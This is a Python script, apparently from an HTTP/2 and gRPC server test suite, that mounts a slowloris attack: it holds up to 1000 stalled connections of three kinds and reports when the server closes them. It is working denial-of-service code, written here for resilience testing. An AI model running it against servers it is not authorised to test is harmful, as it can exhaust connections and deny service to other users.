#!/usr/bin/python3
"""slowloris: --sockets connections (at most 1000) that each stop part-way and then hold
still for --seconds: a third connect TCP and send nothing (not even a TLS ClientHello), a
third send half of the HTTP/2 preface, a third send a request's HEADERS and never its body.
Reports how many the server closed and when. Run a real client meanwhile to check that
others are still served.

  slowloris.py --port N (--ca FILE | --plaintext) [--sockets 200] [--seconds 15]
"""
import json
import select
import ssl
import time

from h2wire import (PREFACE, Encoder, HeadersFrame, ScriptError, SettingsFrame, grpc_request_headers,
                    main, open_socket, parse_args)

KINDS = ("tcp_only", "half_preface", "headers_no_body")


def open_one(args, kind):
    if kind == "tcp_only":
        plain = dict(vars(args), plaintext=True)
        sock, _ = open_socket(type(args)(**plain))
        return sock
    sock, _ = open_socket(args)
    if kind == "half_preface":
        sock.sendall(PREFACE[:len(PREFACE) // 2])
    else:
        block = Encoder().encode(grpc_request_headers(args))
        sock.sendall(PREFACE + SettingsFrame(0).serialize() +
                     HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize())
    sock.setblocking(False)
    return sock


def closed(sock):
    """True once the server closed the socket; reads (and discards) what it sent."""
    try:
        if isinstance(sock, ssl.SSLSocket) and sock.pending():
            sock.recv(65536)
        readable, _, _ = select.select([sock], [], [], 0)
        while readable:
            if not sock.recv(65536):
                return True
            readable, _, _ = select.select([sock], [], [], 0)
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        return False
    except OSError:
        return True
    return False


def run():
    args = parse_args(__doc__, lambda p: p.add_argument("--sockets", type=int, default=200),
                      default_seconds=15.0)
    if not 0 < args.sockets <= 1000:
        raise ScriptError("--sockets must be in 1..1000")
    started = time.monotonic()
    socks = []
    refused = 0
    for i in range(args.sockets):
        kind = KINDS[i % len(KINDS)]
        try:
            socks.append({"kind": kind, "sock": open_one(args, kind), "closed_at": None})
        except ScriptError:
            if not socks:
                raise  # not even the first one: the server is not there
            refused += 1
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline and any(s["closed_at"] is None for s in socks):
        for s in socks:
            if s["closed_at"] is None and closed(s["sock"]):
                s["closed_at"] = round(time.monotonic() - started, 1)
        time.sleep(0.2)
    result = {"attack": "slowloris", "sockets": len(socks), "refused_or_failed": refused,
              "held_seconds": args.seconds}
    for kind in KINDS:
        mine = [s for s in socks if s["kind"] == kind]
        times = sorted(s["closed_at"] for s in mine if s["closed_at"] is not None)
        result[kind] = {"opened": len(mine), "closed_by_server": len(times),
                        "first_close_s": times[0] if times else None,
                        "last_close_s": times[-1] if times else None}
    for s in socks:
        s["sock"].close()
    print(json.dumps(result, sort_keys=True), flush=True)


if __name__ == "__main__":
    main(run)
